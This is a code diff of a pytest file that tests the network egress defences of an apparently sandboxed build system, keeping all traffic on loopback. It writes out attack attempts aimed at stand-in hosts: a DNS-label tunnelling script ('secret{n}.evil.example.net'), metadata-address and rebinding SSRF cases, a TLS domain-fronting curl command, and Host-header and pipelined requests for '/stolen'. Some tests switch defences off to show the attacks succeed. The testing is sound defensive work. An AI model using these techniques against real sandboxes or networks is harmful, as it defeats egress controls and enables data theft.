@@ -1,6 +1,7 @@
 """What a step tries to reach beside what its policy names. The oracle is the world outside: its servers and its resolver.
 
-Each defence that a rule can take out is taken out once, to see that the attack would have worked.
+One step's network by itself, with the gateway in this process, so that a defence that no policy opens can be taken out where it
+is called. What whole builds try in each profile is in test_network_of_builds.py.
 """
 
 from __future__ import annotations
@@ -8,15 +9,26 @@ from __future__ import annotations
 import socket
 import threading
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
+from ipaddress import ip_address
 from pathlib import Path
 
 import pytest
+from sandboxbuild.gateway.addresses import PUBLIC, Classified
 
-from sandboxbuild.executor.proxy import proxy_environment
+from sandboxbuild.executor import network
+from sandboxbuild.executor.names import StandIns
+from sandboxbuild.executor.proxy import ProxyRequest, proxy_environment
+from sandboxbuild.gateway import egress, rules
 from sandboxbuild.gateway.audit import CONNECT
+from sandboxbuild.gateway.egress import Egress, Opened
+from sandboxbuild.gateway.rules import Allowed
 from sandboxbuild.policy.isolation import Allow, NetworkRules
+from sandboxbuild.protocol.http1 import Body
+from tests.support.own_network import Ear
+from tests.support.promises import EVERYWHERE
 from tests.support.small_gateway import SmallGateway
+from tests.support.step_attempts import PROXY_TRICKS
 from tests.support.step_namespace import StepNamespace, step_namespace
 from tests.support.world import Names, World, own_address, world
 
@@ -26,6 +38,8 @@ NAME, OTHER = "files.example.com", "other.example.com"
 PORTS = (80, 443, 2222, 8080)
 RULES = NetworkRules(run=(Allow(NAME, PORTS),), ranges=("127.0.0.0/8",))
 OPEN = NetworkRules(run=(Allow(NAME, PORTS), Allow(OTHER, PORTS)), ranges=("127.0.0.0/8",))
+UNREAD = RULES._replace(run=(Allow(NAME, PORTS, inspect=False),))
+EVERY_RANGE = ("0.0.0.0/0", "::/0")
 PROXY = dict(proxy_environment())
 PYTHON = "/usr/bin/python3"
 
@@ -34,6 +48,22 @@ PYTHON = "/usr/bin/python3"
 def outside(tmp_path: Path) -> Iterator[World]:
     with world(tmp_path, NAME, OTHER) as made:
         yield made
+
+
+@pytest.fixture(autouse=True)
+def gone_out(monkeypatch: pytest.MonkeyPatch) -> list[str]:
+    """The addresses that the gateway would have connected to. Only loopback is: nothing of these tests leaves the machine."""
+    addresses: list[str] = []
+    connect = egress._connect_to
+
+    def guarded(address: str, port: int, timeout_s: float) -> socket.socket:
+        addresses.append(address)
+        if not ip_address(address).is_loopback:
+            raise OSError("held back by the test")
+        return connect(address, port, timeout_s)
+
+    monkeypatch.setattr(egress, "_connect_to", guarded)
+    return addresses
 
 
 class Attack:
@@ -59,18 +89,22 @@ class Attack:
     def python(self, script: str) -> tuple[int, str, str]:
         return self.step.run(PYTHON, "-c", "import socket\n" + script)
 
+    def curl(self, *arguments: str, proxied: bool = False) -> int:
+        return self.step.run("curl", "-sS", "-m", "5", *arguments, environment=PROXY if proxied else {})[0]
+
     def reached(self) -> list[str]:
         time.sleep(0.1)
         return [f"{record.name}:{record.port}" for record in self.gateway.audit.records() if record.kind == CONNECT]
 
 
-def raw_proxy_request(attack: Attack, text: str) -> str:
+def tell_proxy(attack: Attack, text: str) -> str:
     """What the proxy answers to raw bytes; | stands for CRLF."""
-    request = text.replace("|", "\r\n").encode()
+    request = text.replace("|", "\r\n").replace("\\n", "\n").replace("\\t", "\t").encode()
     script = (
         f"s = socket.create_connection(('127.0.0.1', 3128)); s.sendall({request!r}); s.settimeout(3)\n"
         "data = b''\n"
         "try:\n"
+        "    s.shutdown(socket.SHUT_WR)\n"
         "    while chunk := s.recv(65536): data += chunk\n"
         "except OSError: pass\n"
         "print(data.decode('latin-1'))\n"
@@ -78,24 +112,35 @@ def raw_proxy_request(attack: Attack, text: str) -> str:
     return attack.python(script)[1]
 
 
-@pytest.mark.parametrize("environment", [{}, PROXY], ids=["direct", "proxy"])
-def test_address_literal_reaches_nothing(tmp_path: Path, outside: World, environment: dict[str, str]) -> None:
-    packed = int.from_bytes(socket.inet_aton(outside.address))
+def literals(address: str) -> tuple[str, ...]:
+    packed = int.from_bytes(socket.inet_aton(address))
+    return address, str(packed), hex(packed), f"[::ffff:{address}]", "203.0.113.80", "[2001:db8::1]"
+
+
+@pytest.mark.promise(4, "learning lets through names, not addresses", profiles=EVERYWHERE)
+@pytest.mark.parametrize("proxied", [False, True], ids=["direct", "proxy"])
+def test_address_literal_reaches_nothing(tmp_path: Path, outside: World, gone_out: list[str], proxied: bool) -> None:
     with Attack(tmp_path, outside, OPEN._replace(learning=True)) as attack:
-        for literal in (
-            outside.address,
-            str(packed),
-            hex(packed),
-            f"[::ffff:{outside.address}]",
-            "203.0.113.80",
-            "[2001:db8::1]",
-        ):
-            attack.step.run("curl", "-sS", "-m", "5", f"http://{literal}/", environment=environment)
+        for literal in literals(outside.address):
+            attack.curl(f"http://{literal}/", proxied=proxied)
         assert attack.reached() == []
+    assert gone_out == []
     assert outside.connections == 0
 
 
-def test_step_has_no_way_out_but_loopback(tmp_path: Path, outside: World) -> None:
+@pytest.mark.without_defence(4, "learning lets through names, not addresses")
+def test_address_literal_would_be_reached_if_it_passed_for_a_name(
+    tmp_path: Path, outside: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for module in ("sandboxbuild.gateway.rules", "sandboxbuild.executor.tunnel"):
+        monkeypatch.setattr(f"{module}.name_fault", lambda name: "")
+    names = Names({outside.address: [outside.address]})
+    with Attack(tmp_path, outside, OPEN._replace(learning=True), names) as attack:
+        assert attack.curl(f"http://{outside.address}/", proxied=True) == 0
+    assert len(outside.requests) == 1
+
+
+def test_step_has_no_device_but_loopback(tmp_path: Path, outside: World) -> None:
     with Attack(tmp_path, outside) as attack:
         assert attack.step.run("ip", "-6", "route", "get", "2001:db8::1")[0] != 0
         assert attack.step.run("ip", "route", "get", "203.0.113.80")[0] != 0
@@ -103,173 +148,219 @@ def test_step_has_no_way_out_but_loopback(tmp_path: Path, outside: World) -> Non
     assert [line.split(":")[1].strip() for line in links.splitlines()] == ["lo"]
 
 
-def test_datagrams_reach_nobody(tmp_path: Path, outside: World) -> None:
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ear:
-        ear.bind((outside.address, 0))
-        ear.settimeout(0.3)
-        port = ear.getsockname()[1]
-        send = (
-            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
-            f"for host in ('{NAME}', '{outside.address}', '203.0.113.80'):\n"
-            f"    try: s.sendto(b'x', (host, {port}))\n"
-            "    except OSError as error: print(error)\n"
-        )
-        with Attack(tmp_path, outside, OPEN) as attack:
-            assert attack.python(send)[0] == 0
-        with pytest.raises(TimeoutError):
-            ear.recv(9)
-        ear.sendto(b"x", ear.getsockname())
-        assert ear.recv(9) == b"x"
-
-
-def test_dns_to_another_server_and_tunnels_in_labels_reach_no_resolver(tmp_path: Path, outside: World) -> None:
+def test_fifty_labels_that_are_refused_make_no_query(tmp_path: Path, outside: World) -> None:
     tunnel = (
         "import struct\n"
-        "def ask(server, name):\n"
-        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
+        "def ask(name):\n"
+        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n"
         "    q = struct.pack('!HHHHHH', 1, 256, 1, 0, 0, 0)\n"
         "    q += b''.join(bytes((len(l),)) + l.encode() for l in name.split('.')) + bytes((0, 0, 1, 0, 1))\n"
-        "    try: s.sendto(q, (server, 53)); r = s.recv(512); print(r[3] & 15, len(r))\n"
-        "    except OSError: print('nothing')\n"
-        "for n in range(50): ask('198.18.0.1', f'secret{n}.evil.example.net')\n"
-        f"ask('{outside.address}', 'files.example.com'); ask('203.0.113.53', 'files.example.com')\n"
+        "    s.sendto(q, ('198.18.0.1', 53)); print(s.recv(512)[3] & 15)\n"
+        "for n in range(50): ask(f'secret{n}.evil.example.net')\n"
     )
     with Attack(tmp_path, outside) as attack:
-        out = attack.python(tunnel)[1].splitlines()
-        assert {line.split()[0] for line in out[:50]} == {"3"}
-        assert out[50:] == ["nothing", "nothing"]
+        assert attack.python(tunnel)[1].split() == ["3"] * 50
         assert attack.names.asked == []
 
 
-@pytest.mark.parametrize("address", ["127.0.0.1", "10.0.0.1", "169.254.169.254", "::1", "fd00:ec2::254", "::ffff:127.0.0.1"])
-def test_name_that_resolves_inside_is_refused(tmp_path: Path, outside: World, address: str) -> None:
-    rules = NetworkRules(run=(Allow(NAME, PORTS),), learning=True)
-    with Attack(tmp_path, outside, rules, Names({NAME: [address]})) as attack:
+INSIDE = ["127.0.0.1", "10.0.0.1", "169.254.1.1", "100.64.0.1", "0.0.0.0", "224.0.0.1", "::1", "fd00::1", "::ffff:7f00:1"]
+METADATA = ["169.254.169.254", "100.100.100.200", "168.63.129.16", "fd00:ec2::254", "::ffff:a9fe:a9fe"]
+
+
+@pytest.mark.promise(4, "an allowed name that leads into a range that isn't public is refused", profiles=EVERYWHERE)
+@pytest.mark.parametrize("address", INSIDE)
+def test_name_that_resolves_inside_is_refused(tmp_path: Path, outside: World, gone_out: list[str], address: str) -> None:
+    closed = NetworkRules(run=(Allow(NAME, PORTS),), learning=True)
+    with Attack(tmp_path, outside, closed, Names({NAME: [address]})) as attack:
         out = attack.step.run("curl", "-sS", f"http://{NAME}/", environment=PROXY)[1]
-        assert "isn't" in out or "not public" in out or "metadata" in out
-        assert attack.reached() == []
-    assert outside.connections == 0
+    assert "not public" in out
+    assert gone_out == []
 
 
-def test_the_same_name_is_reached_once_the_range_is_open(tmp_path: Path, outside: World) -> None:
-    closed = RULES._replace(ranges=())
-    with Attack(tmp_path, outside, closed) as attack:
-        assert attack.step.run("curl", "-sS", f"http://{NAME}/")[0] != 0
-    assert outside.connections == 0
-    with Attack(tmp_path, outside) as attack:
-        assert attack.step.run("curl", "-sS", f"http://{NAME}/")[0] == 0
-    assert outside.connections == 1
+@pytest.mark.without_defence(4, "an allowed name that leads into a range that isn't public is refused")
+@pytest.mark.parametrize("address", INSIDE)
+def test_name_would_lead_inside_if_every_address_were_public(
+    tmp_path: Path, outside: World, gone_out: list[str], monkeypatch: pytest.MonkeyPatch, address: str
+) -> None:
+    monkeypatch.setattr(rules, "classify", lambda _: Classified(PUBLIC))
+    closed = NetworkRules(run=(Allow(NAME, PORTS),))
+    with Attack(tmp_path, outside, closed, Names({NAME: [address]})) as attack:
+        attack.curl(f"http://{NAME}/")
+    assert gone_out == [address]
 
 
-def test_metadata_stays_closed_with_every_range_open(tmp_path: Path, outside: World) -> None:
-    everything = ("0.0.0.0/0", "::/0")
-    rules = NetworkRules(run=(Allow(NAME, PORTS, everything),), ranges=everything, learning=True)
-    with Attack(tmp_path, outside, rules, Names({NAME: [outside.address, "169.254.169.254"]})) as attack:
+@pytest.mark.promise(4, "one metadata address among others refuses the name", profiles=EVERYWHERE)
+@pytest.mark.parametrize("address", METADATA)
+def test_metadata_stays_closed_with_every_range_open(tmp_path: Path, outside: World, gone_out: list[str], address: str) -> None:
+    wide = NetworkRules(run=(Allow(NAME, PORTS, EVERY_RANGE),), ranges=EVERY_RANGE, learning=True)
+    with Attack(tmp_path, outside, wide, Names({NAME: [outside.address, address]})) as attack:
         out = attack.step.run("curl", "-sS", f"http://{NAME}/", environment=PROXY)[1]
     assert "metadata" in out
-    assert outside.connections == 0
+    assert gone_out == []
 
 
-def test_name_that_changes_between_check_and_use_gains_nothing(tmp_path: Path, outside: World) -> None:
-    victim = own_address()
-    hits = 0
-    with socket.create_server((victim, 80)) as ear:
-        ear.settimeout(0.2)
-
-        class Rebinding(Names):
-            """Public-looking first, the victim at each later question."""
-
-            def __call__(self, name: str) -> list[str]:
-                first = not self.asked
-                super().__call__(name)
-                return [outside.address] if first else [victim]
-
-        rules = RULES._replace(ranges=(f"{outside.address}/32",))
-        with Attack(tmp_path, outside, rules, Rebinding({})) as attack:
-            assert attack.step.run("curl", "-sS", f"http://{NAME}/x")[1] == "hello from /x"
-            assert attack.names.asked == [NAME]
-            assert attack.step.run("curl", "-sS", f"http://{NAME}/x")[0] != 0
-        with pytest.raises(TimeoutError):
-            ear.accept()
-            hits += 1
-    assert hits == 0
+@pytest.mark.without_defence(4, "one metadata address among others refuses the name")
+@pytest.mark.parametrize("address", METADATA)
+def test_metadata_would_be_connected_to_if_it_were_an_address_like_others(
+    tmp_path: Path, outside: World, gone_out: list[str], monkeypatch: pytest.MonkeyPatch, address: str
+) -> None:
+    monkeypatch.setattr(rules, "classify", lambda _: Classified(PUBLIC))
+    wide = NetworkRules(run=(Allow(NAME, PORTS, EVERY_RANGE),), ranges=EVERY_RANGE)
+    with Attack(tmp_path, outside, wide, Names({NAME: [address]})) as attack:
+        attack.curl(f"http://{NAME}/")
+    assert gone_out == [address]
 
 
-@pytest.mark.parametrize("environment", [{}, PROXY], ids=["direct", "proxy"])
-def test_other_tls_name_on_an_allowed_connection_is_cut(tmp_path: Path, outside: World, environment: dict[str, str]) -> None:
-    fronting = ("curl", "-sS", "-k", "-m", "5", "--connect-to", f"{OTHER}:443:{NAME}:443", f"https://{OTHER}/stolen")
+class Rebinding(Names):
+    """One address at the first question, another at each later one."""
+
+    def __init__(self, first: str, later: str) -> None:
+        super().__init__({})
+        self._first, self._later = first, later
+
+    def __call__(self, name: str) -> list[str]:
+        first = not self.asked
+        super().__call__(name)
+        return [self._first] if first else [self._later]
+
+
+@pytest.fixture
+def victim() -> Iterator[Ear]:
+    """A server at an address that no rule opens."""
+    ear = Ear(socket.create_server((own_address(), 80)))
+    yield ear
+    ear.close()
+
+
+@pytest.mark.promise(4, "a name that changes between check and use gains nothing", profiles=EVERYWHERE)
+def test_name_that_changes_between_check_and_use_gains_nothing(tmp_path: Path, outside: World, victim: Ear) -> None:
+    narrow = RULES._replace(ranges=(f"{outside.address}/32",))
+    with Attack(tmp_path, outside, narrow, Rebinding(outside.address, victim.socket.getsockname()[0])) as attack:
+        assert attack.step.run("curl", "-sS", f"http://{NAME}/x")[1] == "hello from /x"
+        assert attack.names.asked == [NAME]
+        assert attack.curl(f"http://{NAME}/x") != 0
+    assert victim.heard == []
+
+
+@pytest.mark.without_defence(4, "a name that changes between check and use gains nothing")
+def test_name_that_is_looked_up_again_leads_to_the_victim(
+    tmp_path: Path, outside: World, victim: Ear, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def connect(self: Egress, host: str, port: int, allowed: Allowed) -> Opened:
+        (address,) = self._resolver(host)
+        return Opened(egress._connect_to(address, port, 5.0), address, allowed)
+
+    monkeypatch.setattr(Egress, "_connect", connect)
+    narrow = RULES._replace(ranges=(f"{outside.address}/32",))
+    with Attack(tmp_path, outside, narrow, Rebinding(outside.address, victim.socket.getsockname()[0])) as attack:
+        attack.curl(f"http://{NAME}/stolen")
+    assert any(b"/stolen" in heard for heard in victim.heard)
+
+
+FRONTING = ("-k", "--connect-to", f"{OTHER}:443:{NAME}:443", f"https://{OTHER}/stolen")
+
+
+@pytest.mark.promise(4, "a TLS server name other than the one asked for is cut")
+@pytest.mark.parametrize("proxied", [False, True], ids=["direct", "proxy"])
+def test_other_tls_name_on_an_allowed_connection_is_cut(tmp_path: Path, outside: World, proxied: bool) -> None:
     with Attack(tmp_path, outside) as attack:
-        assert attack.step.run(*fronting, environment=environment)[0] != 0
+        assert attack.curl(*FRONTING, proxied=proxied) != 0
     assert outside.requests == []
-    unread = RULES._replace(run=(Allow(NAME, PORTS, inspect=False),))
-    with Attack(tmp_path, outside, unread) as attack:
-        assert attack.step.run(*fronting, environment=environment)[0] == 0
+    assert outside.server_names == []
+
+
+@pytest.mark.without_defence(4, "a TLS server name other than the one asked for is cut")
+@pytest.mark.parametrize("proxied", [False, True], ids=["direct", "proxy"])
+def test_other_tls_name_passes_where_nobody_looks(tmp_path: Path, outside: World, proxied: bool) -> None:
+    with Attack(tmp_path, outside, UNREAD) as attack:
+        assert attack.curl(*FRONTING, proxied=proxied) == 0
     assert len(outside.requests) == 1
 
 
-@pytest.mark.parametrize("port", [80, 8080])
-def test_other_host_on_an_allowed_connection_is_cut(tmp_path: Path, outside: World, port: int) -> None:
+def send_two(attack: Attack, port: int) -> None:
+    """An honest request, and one to another host behind it on the same connection."""
     two = f"GET /fine HTTP/1.1|Host: {NAME}:{port}||GET /stolen HTTP/1.1|Host: {OTHER}||".replace("|", "\r\n").encode()
-    script = (
+    attack.python(
         f"s = socket.create_connection(('{NAME}', {port})); s.sendall({two!r}); s.settimeout(3)\n"
         "try: s.recv(999); s.recv(999)\n"
         "except OSError: pass\n"
     )
+
+
+@pytest.mark.promise(4, "a Host or target other than the name asked for is cut")
+@pytest.mark.parametrize("port", [80, 8080])
+def test_other_host_on_an_allowed_connection_is_cut(tmp_path: Path, outside: World, port: int) -> None:
     with Attack(tmp_path, outside) as attack:
-        attack.step.run("curl", "-sS", "-H", f"Host: {OTHER}", f"http://{NAME}:{port}/stolen")
-        attack.python(script)
-    assert not any("stolen" in line for _, line, _ in outside.requests)
-    unread = RULES._replace(run=(Allow(NAME, PORTS, inspect=False),))
-    with Attack(tmp_path, outside, unread) as attack:
-        attack.python(script)
-    assert any("stolen" in line for _, line, _ in outside.requests)
+        attack.curl("-H", f"Host: {OTHER}", f"http://{NAME}:{port}/stolen")
+        send_two(attack, port)
+    assert not any("stolen" in line for line in outside.lines)
 
 
-def test_redirect_to_a_refused_host_ends_there(tmp_path: Path, outside: World) -> None:
-    follow = ("curl", "-sS", "-L", f"http://{NAME}/redirect/{OTHER}:8080/stolen")
+@pytest.mark.without_defence(4, "a Host or target other than the name asked for is cut")
+@pytest.mark.parametrize("port", [80, 8080])
+def test_other_host_passes_where_nobody_looks(tmp_path: Path, outside: World, port: int) -> None:
+    with Attack(tmp_path, outside, UNREAD) as attack:
+        send_two(attack, port)
+    assert any("stolen" in line for line in outside.lines)
+
+
+def tricks_that_worked(attack: Attack, outside: World) -> set[str]:
+    for *_, text in PROXY_TRICKS.values():
+        tell_proxy(attack, text)
+    seen = "\n".join((*outside.lines, *(chunk.decode("latin-1") for chunk in outside.chunks)))
+    return {name for name in PROXY_TRICKS if f"attempt-{name}" in seen}
+
+
+@pytest.mark.promise(4, "the proxy is not tricked")
+def test_proxy_carries_no_request_that_has_two_readings(tmp_path: Path, outside: World) -> None:
     with Attack(tmp_path, outside) as attack:
-        assert attack.step.run(*follow)[0] == 6
-        attack.step.run(*follow, environment=PROXY)
-    assert not any(line.startswith("GET /stolen") for _, line, _ in outside.requests)
-    with Attack(tmp_path, outside, OPEN) as attack:
-        assert attack.step.run(*follow)[0] == 0
-    assert any(line.startswith("GET /stolen") for _, line, _ in outside.requests)
-
-
-STOLEN = "GET /stolen HTTP/1.1|Host: {o}||"
-SMUGGLED = [
-    "POST http://{n}/a HTTP/1.1|Host: {n}|Content-Length: 5|Transfer-Encoding: chunked||0||" + STOLEN,
-    "POST http://{n}/a HTTP/1.1|Host: {n}|Content-Length: 0|Content-Length: 50||" + STOLEN,
-    "POST http://{n}/a HTTP/1.1|Host: {n}|Transfer-Encoding: xchunked||" + STOLEN,
-    "POST http://{n}/a HTTP/1.1|Host: {n}|Transfer-Encoding : chunked||0||" + STOLEN,
-    "GET http://{n}/a HTTP/1.1|Host: {n}||GET http://{o}/stolen HTTP/1.1|Host: {o}||",
-    "GET http://{n}/a HTTP/1.1\nHost: {n}\n\n" + STOLEN,
-    "GET http://{o}/stolen HTTP/1.1|Host: {n}||",
-    "GET http://{n}/a HTTP/1.1|Host: {o}||",
-    "GET http://{n}@{o}/stolen HTTP/1.1|Host: {o}||",
-    "GET http://{n}:80@{o}/stolen HTTP/1.1|Host: {n}||",
-    "GET http://{n}/a|X: GET /stolen HTTP/1.1|Host: {n}||",
-    STOLEN,
-    "CONNECT {o}:80 HTTP/1.1|Host: {n}:80||",
-    "CONNECT {n}:80 HTTP/1.1|Host: {n}:80||" + STOLEN,
-    "CONNECT {n}:80 HTTP/1.1|Host: {n}:80|Sandboxbuild-Step: 2||GET http://{o}/stolen HTTP/1.1|Host: {o}||",
-    "PRI * HTTP/2.0||SM||",
-]
-
-
-@pytest.mark.parametrize("text", SMUGGLED)
-def test_proxy_carries_no_second_request(tmp_path: Path, outside: World, text: str) -> None:
-    with Attack(tmp_path, outside) as attack:
-        raw_proxy_request(attack, text.format(n=NAME, o=OTHER))
+        assert tricks_that_worked(attack, outside) == set()
         assert set(attack.reached()) <= {f"{NAME}:80"}
-    assert not any("stolen" in line or host == OTHER for _, line, host in outside.requests)
+
+
+def read_leniently(client: socket.socket) -> tuple[ProxyRequest, bytes]:
+    """A proxy that looks for a name it may reach, and sends on what it was given."""
+    client.settimeout(2)
+    data = b""
+    while chunk := client.recv(65536):
+        data += chunk
+    tunnelled = data.partition(b"\r\n\r\n")[2] if data.startswith(b"CONNECT") else data
+    return ProxyRequest(NAME, 80, tunnelled, Body(0)), b""
+
+
+class EveryByte:
+    """A relay's Filter that lets all through."""
+
+    def __init__(self, _body: Body) -> None:
+        self.transparent = True
+
+    def feed(self, data: bytes) -> bytes:
+        return data
+
+
+@pytest.mark.without_defence(4, "the proxy is not tricked")
+def test_lenient_proxy_is_tricked_where_nobody_looks(tmp_path: Path, outside: World, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(network, "read_request", read_leniently)
+    monkeypatch.setattr(network, "BodyOnly", EveryByte)
+    with Attack(tmp_path, outside, UNREAD) as attack:
+        assert tricks_that_worked(attack, outside) == set(PROXY_TRICKS)
+
+
+@pytest.mark.promise(4, "the gateway doesn't rely on the proxy", profiles=EVERYWHERE)
+def test_lenient_proxy_gets_nothing_past_the_gateway(tmp_path: Path, outside: World, monkeypatch: pytest.MonkeyPatch) -> None:
+    """An executor that was taken over may forward what it likes: requests with two readings end at the gateway."""
+    monkeypatch.setattr(network, "read_request", read_leniently)
+    monkeypatch.setattr(network, "BodyOnly", EveryByte)
+    with Attack(tmp_path, outside) as attack:
+        assert tricks_that_worked(attack, outside) == set()
 
 
 def test_proxy_works_for_the_honest_request(tmp_path: Path, outside: World) -> None:
     with Attack(tmp_path, outside) as attack:
-        assert "hello from /a" in raw_proxy_request(attack, f"GET http://{NAME}/a HTTP/1.1|Host: {NAME}||")
+        assert "hello from /a" in tell_proxy(attack, f"GET http://{NAME}/a HTTP/1.1|Host: {NAME}||")
 
 
+@pytest.mark.promise(4, "a stand-in address that a step didn't ask for stands for nothing")
 def test_stand_in_that_nobody_asked_for_stands_for_nothing(tmp_path: Path, outside: World) -> None:
     scan = (
         "open_ = 0\n"
@@ -285,26 +376,28 @@ def test_stand_in_that_nobody_asked_for_stands_for_nothing(tmp_path: Path, outsi
         assert attack.reached() == []
 
 
-def test_one_step_can_not_use_the_names_of_another(tmp_path: Path, outside: World) -> None:
+def banner_of_anothers_stand_in(tmp_path: Path, outside: World) -> str:
+    """What a second step hears at the address that stands for a name in the first."""
     with Attack(tmp_path, outside, OPEN) as attack:
         folder = tmp_path / "second"
         folder.mkdir()
         with step_namespace(str(folder), attack.gateway.uplink, PORTS, step="2") as second:
-            assert attack.step.run("curl", "-sS", f"http://{NAME}/")[0] == 0
+            assert attack.curl(f"http://{NAME}/") == 0
             script = "import socket; s = socket.create_connection(('198.18.0.2', 2222)); s.settimeout(2); print(s.recv(9))"
-            assert "SSH" not in second.run(PYTHON, "-c", script)[1]
+            return second.run(PYTHON, "-c", script)[1]
 
 
-def test_abstract_sockets_of_the_host_are_out_of_reach(tmp_path: Path, outside: World) -> None:
-    name = f"sandboxbuild-test-{time.monotonic_ns()}"
-    with socket.socket(socket.AF_UNIX) as ear:
-        ear.bind("\0" + name)
-        ear.listen()
-        with socket.socket(socket.AF_UNIX) as control:
-            control.connect("\0" + name)
-        script = f"s = socket.socket(socket.AF_UNIX); print(s.connect_ex(chr(0) + '{name}'))"
-        with Attack(tmp_path, outside) as attack:
-            assert attack.python(script)[1] == "111\n"
+@pytest.mark.promise(4, "a stand-in address that a step didn't ask for stands for nothing")
+def test_one_step_can_not_use_the_stand_ins_of_another(tmp_path: Path, outside: World) -> None:
+    assert "SSH" not in banner_of_anothers_stand_in(tmp_path, outside)
+
+
+@pytest.mark.without_defence(4, "a stand-in address that a step didn't ask for stands for nothing")
+def test_stand_ins_that_steps_share_are_reached(tmp_path: Path, outside: World, monkeypatch: pytest.MonkeyPatch) -> None:
+    shared = StandIns()
+    one_for_all: Callable[[], StandIns] = lambda: shared  # noqa: E731 - a class's stand-in
+    monkeypatch.setattr(network, "StandIns", one_for_all)
+    assert "SSH" in banner_of_anothers_stand_in(tmp_path, outside)
 
 
 def test_flood_of_names_and_connections_leaves_the_gateway_working(tmp_path: Path, outside: World) -> None:
